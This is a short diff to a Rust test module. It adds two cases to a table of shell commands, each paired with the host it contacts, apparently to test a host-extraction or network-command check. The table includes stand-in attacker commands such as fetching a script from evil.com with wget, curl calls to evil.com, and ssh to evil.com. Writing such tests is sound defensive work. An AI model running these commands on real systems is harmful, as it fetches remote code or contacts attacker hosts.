@@ -78,6 +78,8 @@ mod tests {
             ("wget -q evil.com/a.sh -O -", "evil.com"),
             ("curl localhost/admin", "localhost"),
             ("curl https://evil.com/x", "evil.com"),
+            ("curl https://evil.com/*?a=b", "evil.com"),
+            ("curl \"https://evil.com/$x\"", "evil.com"),
             ("ssh evil.com ls", "evil.com"),
             ("ssh -p 22 me@evil.com", "evil.com"),
             ("ping -c 1 evil.com", "evil.com"),
